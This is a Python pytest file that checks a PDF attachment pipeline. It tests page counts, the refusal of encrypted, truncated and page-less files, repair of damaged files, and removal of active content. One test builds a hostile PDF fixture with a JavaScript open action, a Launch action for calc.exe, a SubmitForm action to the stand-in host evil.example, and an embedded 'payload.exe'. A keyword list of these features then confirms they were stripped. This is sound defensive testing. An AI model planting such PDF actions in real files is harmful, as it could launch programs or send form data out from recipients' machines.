"""PDFs: pages in are pages out; what is broken, locked or too much is refused; what they would do is taken out."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pikepdf
import pytest

from pipeline.attachments.messages import LIMITS
from tests.support.built import make_pdf, make_pdf_of, make_picture, saved
from tests.support.cases import EXAMPLES
from tests.support.reading import expanded, pages_by_another_parser, paper, read, refusal, refused, text

SCAN = make_pdf_of(make_picture("JPEG", (800, 1000), quality=90), 3)
ACTIVE = (b"/JavaScript", b"app.alert", b"/Launch", b"calc.exe", b"/SubmitForm", b"/EmbeddedFile", b"MZ payload")


class TestPdf:
    @pytest.mark.parametrize("pages", [1, 2, 17])
    def test_pages_in_are_pages_out(self, tmp_path: Path, pages: int) -> None:
        found = paper(tmp_path, "a.pdf", make_pdf(pages))
        assert found.pages == pages == pages_by_another_parser(found.pdf)

    def test_a_pdf_that_needs_a_password_is_refused(self, tmp_path: Path) -> None:
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            content = saved(pdf, encryption=pikepdf.Encryption(user="secret", owner="owner"))
        assert refusal(tmp_path, "a.pdf", content).code == "attachment-encrypted"

    @pytest.mark.parametrize("percent", [1, 25, 50, 75, 90, 99])
    @pytest.mark.parametrize("content", [SCAN, make_pdf(8)], ids=["scan", "blank"])
    def test_a_truncated_pdf_is_refused_and_loses_no_page_silently(
        self, tmp_path: Path, content: bytes, percent: int
    ) -> None:
        cut = content[: len(content) * percent // 100]
        assert refusal(tmp_path, "a.pdf", cut).code == "attachment-damaged"

    def test_a_pdf_that_is_nothing_but_a_header_and_an_end_is_refused(self, tmp_path: Path) -> None:
        assert refusal(tmp_path, "a.pdf", b"%PDF-1.7\n%%EOF\n").code == "attachment-damaged"

    def test_a_pdf_with_a_wrong_table_or_padding_at_its_end_is_mended(self, tmp_path: Path) -> None:
        content = make_pdf(3)
        start = content.rindex(b"startxref")
        wrong = content[:start] + b"startxref\n7\n%%EOF\n"
        assert paper(tmp_path, "a.pdf", wrong).pages == 3
        assert paper(tmp_path, "b.pdf", content + b"\0" * 4096).pages == 3
        assert paper(tmp_path, "c.pdf", b"\n\n" + content).pages == 3

    def test_a_pdf_without_pages_is_refused(self, tmp_path: Path) -> None:
        assert refusal(tmp_path, "a.pdf", make_pdf(0)).code == "attachment-pages"

    def test_a_pdf_with_too_many_pages_is_refused(self) -> None:
        limits = replace(LIMITS, pages=3)
        assert read(make_pdf(3), limits=limits).pages == 3
        error = refused(make_pdf(4), limits=limits)
        assert (error.code, error.message) == ("attachment-pages", "the PDF has more than 3 pages; 1 to 3 can be used")

    def test_what_a_pdf_would_do_is_taken_out(self, tmp_path: Path) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            page = pdf.add_blank_page()
            pdf.Root.OpenAction = script
            pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
            page.AA = pikepdf.Dictionary(O=script)
            launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
            send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
            page.Annots = pikepdf.Array(
                [
                    pdf.make_indirect(
                        pikepdf.Dictionary(
                            Type=pikepdf.Name.Annot,
                            Subtype=pikepdf.Name.Link,
                            Rect=pikepdf.Array([0, 0, 9, 9]),
                            A=action,
                        )
                    )
                    for action in (script, launch, send)
                ]
            )
            (tmp_path / "payload.exe").write_bytes(b"MZ payload")
            attached = pikepdf.AttachedFileSpec.from_filepath(pdf, tmp_path / "payload.exe")
            pdf.attachments["payload.exe"] = attached
            content = saved(pdf)
        assert all(word in expanded(content) for word in ACTIVE)
        found = paper(tmp_path, "a.pdf", content)
        assert found.pages == 2
        left = expanded(found.pdf)
        assert [word for word in ACTIVE if word in left] == []

    def test_the_text_layer_survives_the_cleaning(self, tmp_path: Path) -> None:
        content = (EXAMPLES / "wang-xiaoming" / "papers" / "bank-certificate.pdf").read_bytes()
        assert text(paper(tmp_path, "a.pdf", content).pdf) == text(content)

    def test_the_same_pdf_gives_the_same_bytes(self, tmp_path: Path) -> None:
        assert paper(tmp_path, "a.pdf", SCAN).pdf == paper(tmp_path, "b.pdf", SCAN).pdf
